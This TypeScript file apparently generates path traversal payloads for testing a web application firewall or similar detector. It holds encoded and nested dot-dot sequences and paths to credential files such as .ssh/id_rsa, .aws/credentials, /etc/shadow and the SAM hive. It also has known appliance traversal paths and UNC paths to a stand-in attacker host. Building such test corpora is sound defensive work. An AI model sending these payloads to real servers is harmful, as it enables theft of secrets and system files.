/** Families of path traversal: up and out in every notation, and files that no parameter should name. */
import type { VariableSource } from '../../../../variables.ts';
import type { Family } from '../../family.ts';
import { bound, changed, integer, maybe, oneOf, type Part, type Rule, text, weighted, words } from '../../grammar.ts';
import { evade } from '../../mutators/evade.ts';
import { mixedCase } from '../../mutators/letter-case.ts';
import { sometimes } from '../../mutators/mutator.ts';
import { ATTACKER_HOST } from '../hosts.ts';
import { APPLICATION_FILE, DIRECTORY, ENDING, UNIX_FILE, WINDOWS_FILE } from './targets.ts';

const ARGUMENTS: readonly VariableSource[] = [
  'REQUEST_GET_ARGS',
  'REQUEST_POST_ARGS',
  'REQUEST_ARGS',
  'REQUEST_JSON',
  'REQUEST_QUERY',
  'REQUEST_COOKIES',
  'REQUEST_XML',
  'REQUEST_HEADERS',
];
const ANYWHERE: readonly VariableSource[] = [...ARGUMENTS, 'REQUEST_URI', 'REQUEST_PATH', 'REQUEST_FILES'];
const PATHS: readonly VariableSource[] = [
  'REQUEST_URI',
  'REQUEST_PATH',
  'REQUEST_GET_ARGS',
  'REQUEST_ARGS',
  'REQUEST_QUERY',
];

/** `step` as often as a way out of a directory needs it. */
function climbing(step: Part, least = 1, most = 12): Rule {
  return bound(step, (written) => bound(integer(least, most), (count) => written.repeat(Number(count))));
}

/** Steps up that need no decoding, or one. */
const PLAIN_STEP: Rule = weighted(
  [12, '../'],
  [4, '..\\'],
  [1, '..//'],
  [1, './../'],
  [1, '..\\/'],
  [0.5, '.\\..\\'],
  [0.5, '..\\\\'],
);
const ENCODED_STEP: Rule =
  words(`%2e%2e/ %2e%2e%2f ..%2f ..%2F %2E%2E%2F .%2e/ %2e./ %2e%2e\\ ..%5c ..%5C %2e%2e%5c %2E%2E%5C
  ..%252f %252e%252e%252f %252e%252e/ ..%255c %252e%252e%255c %25252e%25252e%25252f ..%25252f ..%%32%66 %%32%65%%32%65%%32%66 ..%%35%63
  ..%c0%af %c0%ae%c0%ae/ %c0%ae%c0%ae%c0%af ..%c1%9c ..%c0%9v ..%c1%pc ..%c0%qf ..%e0%80%af %e0%80%ae%e0%80%ae%e0%80%af ..%f0%80%80%af
  ..%fc%80%80%80%80%af ..%u2215 ..%u2216 %u002e%u002e%u2215 %u002e%u002e%u002f ..%uff0f %uff0e%uff0e%u2215 .%u002e/ ..%EF%BC%8F
  ..%bg%qf ..%c0%2f ..%25c0%25af %c0%2e%c0%2e%c0%af ..0x2f 0x2e0x2e/ 0x2e0x2e0x2f ..0x5c &#46;&#46;/ \\x2e\\x2e/ \\u002e\\u002e\\u002f ..\\u2215 ..\\u2216`);
const NESTED_STEP: Rule =
  words(`....// ....\\\\ ..././ ...\\.\\ ....\\/ ..../\\ .././ ..//..//./ .../ ..../ .....///// ../\\ ..;/ ..;/..;/ ..%3b/ ..;a=b/ /..;/ ..\\;/
  /%5c../ \\../ ./.././ ///../ /..// .%00./ ..%00/ ..%0d/ ..%09/ %20../ ..%ff/ ..||/ .+./ ..+/ ..?/ ..#/ .&./`);

const BACKSLASHES = /\\/g;
const WINDOWS_PATH: Rule = changed(WINDOWS_FILE, (written, random) =>
  random() < 0.4 ? written.replace(BACKSLASHES, '/') : written,
);
const SYSTEM_FILE: Rule = weighted([6, UNIX_FILE], [3, WINDOWS_PATH]);
const TARGET: Rule = weighted([6, UNIX_FILE], [3, WINDOWS_PATH], [2, APPLICATION_FILE]);
const BEFORE: Rule = weighted(
  [8, ''],
  [3, '/'],
  [3, text`${DIRECTORY}/`],
  [2, text`/${DIRECTORY}/`],
  [1, text`./${maybe(DIRECTORY)}/`],
  [0.5, text`/var/www/html/`],
  [0.5, '//'],
  [0.5, 'file://'],
  [0.4, 'file:///'],
);

const dotDot: Rule = evade(
  weighted(
    [6, text`${BEFORE}${climbing(PLAIN_STEP)}${SYSTEM_FILE}${ENDING}`],
    [2, text`${BEFORE}${climbing(PLAIN_STEP, 2)}${APPLICATION_FILE}${ENDING}`],
    [1, text`${BEFORE}${climbing('../', 3, 16)}${ENDING}`],
    [1, text`${BEFORE}${climbing('..\\', 2, 12)}${WINDOWS_FILE}${ENDING}`],
    [0.5, text`/${climbing('../', 2, 9)}`],
    [
      0.5,
      text`${climbing(oneOf('../', '..\\'), 2, 10)}${words('etc windows winnt var proc home root WEB-INF boot')}${maybe('/')}`,
    ],
    [0.5, text`${climbing('/..', 2, 10)}/${TARGET}`],
    [0.5, text`${climbing('\\..', 2, 10)}\\${WINDOWS_FILE}`],
  ),
);

/** The slashes of the target in the notation of the step where that fits. */
const encodedDotDot: Rule = evade(
  bound(ENCODED_STEP, (step) => {
    const separator = /(%25)*(%2f|%5c|%c0%af|%c1%9c|%252f|%255c|%u2215|%uff0f|%e0%80%af)$/i.exec(step)?.[0] ?? '/';
    const target = changed(TARGET, (written, random) =>
      random() < 0.5 ? written.replace(/[\\/]/g, separator) : written,
    );
    return text`${BEFORE}${climbing(step)}${target}${ENDING}`;
  }),
);

const nestedDotDot: Rule = evade(text`${BEFORE}${climbing(NESTED_STEP, 1, 10)}${TARGET}${ENDING}`);

const mixedSteps: Rule = evade(
  text`${BEFORE}${bound(integer(2, 8), (count) => {
    const step = weighted([3, PLAIN_STEP], [2, ENCODED_STEP], [1, NESTED_STEP], [1, './'], [1, text`${DIRECTORY}/../`]);
    return Array.from({ length: Number(count) }).reduce<Rule>(
      (written) => text`${written}${step}`,
      text`${PLAIN_STEP}`,
    );
  })}${TARGET}${ENDING}`,
);

const absoluteUnix: Rule = evade(
  weighted(
    [10, text`/${UNIX_FILE}${ENDING}`],
    [1, text`//${UNIX_FILE}`],
    [1, text`/./${UNIX_FILE}`],
    [
      2,
      changed(text`/${UNIX_FILE}`, (written, random) =>
        written.replace(/\//g, () =>
          random() < 0.5 ? '/' : (['//', '/./', '///', '%2f'][Math.floor(random() * 4)] ?? '/'),
        ),
      ),
    ],
    [
      1,
      changed(
        text`/${words('etc/passwd etc/shadow etc/hosts proc/self/environ root/.ssh/id_rsa')}`,
        (written, random) => {
          const place = 5 + Math.floor(random() * (written.length - 6));
          return `${written.slice(0, place)}${['?', '*', '[a-z]', '\\'][Math.floor(random() * 4)]}${written.slice(place + 1)}`;
        },
      ),
    ],
    [0.5, text`${words('|/ </ ~/')}${UNIX_FILE}`],
  ),
);

const DRIVE: Rule = words('c: C: c: C: d: D: c:/ e:');
const absoluteWindows: Rule = evade(
  sometimes(
    0.2,
    weighted(
      [8, text`${DRIVE}\\${WINDOWS_FILE}${ENDING}`],
      [4, changed(text`${DRIVE}\\${WINDOWS_FILE}`, (written) => written.replace(BACKSLASHES, '/'))],
      [2, changed(text`${DRIVE}\\${WINDOWS_FILE}`, (written) => written.replace(BACKSLASHES, '\\\\'))],
      [1, text`\\\\${oneOf('localhost', '127.0.0.1', '.', '?', ATTACKER_HOST)}\\c$\\${WINDOWS_FILE}`],
      [1, text`\\\\?\\c:\\${WINDOWS_FILE}`],
      [1, text`\\${WINDOWS_FILE}`],
      [
        1,
        text`%${words('SYSTEMROOT WINDIR SYSTEMDRIVE')}%\\${words('win.ini system32\\drivers\\etc\\hosts system32\\config\\sam')}`,
      ],
      [0.5, text`/c:/${changed(WINDOWS_FILE, (written) => written.replace(BACKSLASHES, '/'))}`],
    ),
    mixedCase,
  ),
);

const fileUrl: Rule = evade(
  sometimes(
    0.1,
    weighted(
      [8, text`file://${oneOf('', 'localhost', '127.0.0.1', '', '')}/${UNIX_FILE}${maybe(ENDING, 0.3)}`],
      [3, text`file:///${DRIVE}/${changed(WINDOWS_FILE, (written) => written.replace(BACKSLASHES, '/'))}`],
      [2, text`file:/${UNIX_FILE}`],
      [1, text`${words('netdoc:/// local_file:/// url:file:/// file:// jar:file:///')}${UNIX_FILE}`],
      [1, text`file:///${climbing('../', 2, 8)}${SYSTEM_FILE}`],
      [0.5, text`file:///proc/self/${words('environ cmdline cwd/app.py cwd/.env fd/3 maps')}`],
      [0.5, text`view-source:file:///${UNIX_FILE}`],
    ),
    mixedCase,
  ),
);

const PARAMETER: Rule =
  words(`file path page template doc document folder root dir include inc locate show site type view content layout mod conf
  download filename name lang language load read cat detail style pdf img image url src f p pg`);

const inRequest: Rule = evade(
  weighted(
    [4, text`${PARAMETER}=${climbing(oneOf(PLAIN_STEP, ENCODED_STEP, NESTED_STEP))}${TARGET}${ENDING}`],
    [3, text`/${DIRECTORY}/${climbing(oneOf(PLAIN_STEP, ENCODED_STEP, NESTED_STEP))}${TARGET}`],
    [
      2,
      text`/${oneOf('', text`${DIRECTORY}/`)}${words('index.php download.php view.php page.jsp get.aspx show.cgi main.do read file')}?${PARAMETER}=${climbing(oneOf(PLAIN_STEP, ENCODED_STEP))}${TARGET}${ENDING}`,
    ],
    [2, text`${PARAMETER}=${oneOf('/', 'file:///')}${UNIX_FILE}${ENDING}`],
    [
      1,
      text`/cgi-bin/${climbing(words('.%2e/ %2e%2e/ %%32%65%%32%65/ ..%c0%af ..%252f .%%32%65/'), 2, 8)}${oneOf(UNIX_FILE, 'bin/sh')}`,
    ],
    [1, text`/icons/${climbing('.%2e/', 2, 8)}${UNIX_FILE}`],
    [
      1,
      text`/scripts/${climbing(words('..%255c ..%c0%af ..%c1%9c ..%35c ..%%35c'), 1, 6)}winnt/system32/cmd.exe?/c+dir${maybe('+c:\\')}`,
    ],
    [1, text`/${DIRECTORY}${words('../ ..;/ ..%2f %2e%2e/')}${APPLICATION_FILE}`],
    [
      1,
      text`/public/plugins/${words('alertlist graph text table welcome mysql')}/${climbing('../', 5, 9)}${UNIX_FILE}`,
    ],
    [
      1,
      text`/${words('api/v1 service app portal tmui/login.jsp vpns remote jsp')}/${climbing('..;/', 1, 4)}${oneOf(APPLICATION_FILE, words('manager/html actuator/env tmui/locallb/workspace/fileRead.jsp console'))}`,
    ],
    [
      1,
      text`/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/${words('portal_inc.lua files/file_list.json')}&default-language&lang=../`,
    ],
    [
      1,
      text`filename="${climbing('../', 1, 6)}${oneOf(words('shell.php cmd.jsp evil.sh web.config .htaccess authorized_keys'), UNIX_FILE)}"`,
    ],
    [0.7, text`/static/${climbing(words('/.. /%2e%2e /..%2f'), 2, 8)}/${UNIX_FILE}`],
    [0.5, text`${climbing('../', 3, 8)}${UNIX_FILE} HTTP/1.${integer(0, 1)}`],
  ),
);

const RESTRICTED: Rule =
  words(`WEB-INF/web.xml META-INF/MANIFEST.MF WEB-INF/classes/application.properties WEB-INF/struts-config.xml WEB-INF/classes/
  .git/config .env .ssh/id_rsa .aws/credentials .htpasswd wp-config.php .bash_history .kube/config .docker/config.json`);

const restrictedByName: Rule = evade(
  weighted(
    [
      4,
      text`${oneOf('/', '', './', '/./', text`/${DIRECTORY}/`)}${words('../ ..%2f ..;/ ..\\ %2e%2e/ .//../')}${RESTRICTED}${ENDING}`,
    ],
    [
      2,
      text`${oneOf('/', './', '', '//', '/;/', '/.//')}${words('WEB-INF/web.xml META-INF/MANIFEST.MF WEB-INF/classes/application.yml WEB-INF/database.properties')}${ENDING}`,
    ],
    [2, text`/${oneOf('var/www', 'srv', 'home', 'opt', 'usr/share/nginx', 'app')}/${DIRECTORY}/${RESTRICTED}${ENDING}`],
    [1, text`/%2e/${RESTRICTED}`],
    [1, text`/${words('static console api app')}/..%252f${RESTRICTED}`],
    [1, text`${PARAMETER}=${oneOf('/', '', './')}${RESTRICTED}${ENDING}`],
  ),
);

function family(name: string, value: Rule, weight = 1, places = ANYWHERE): Family {
  return { name: `path-traversal/${name}`, label: 'path-traversal', weight, places, value };
}

export const PATH_TRAVERSAL_FAMILIES: readonly Family[] = [
  family('dot-dot', dotDot, 2),
  family('encoded-dot-dot', encodedDotDot, 1.5),
  family('nested-dot-dot', nestedDotDot),
  family('mixed-steps', mixedSteps, 0.7),
  family('absolute-unix', absoluteUnix, 1.5, ARGUMENTS),
  family('absolute-windows', absoluteWindows, 1, ARGUMENTS),
  family('file-url', fileUrl, 0.7, ARGUMENTS),
  family('in-request', inRequest, 1.2, PATHS),
  family('restricted-by-name', restrictedByName, 0.7),
];
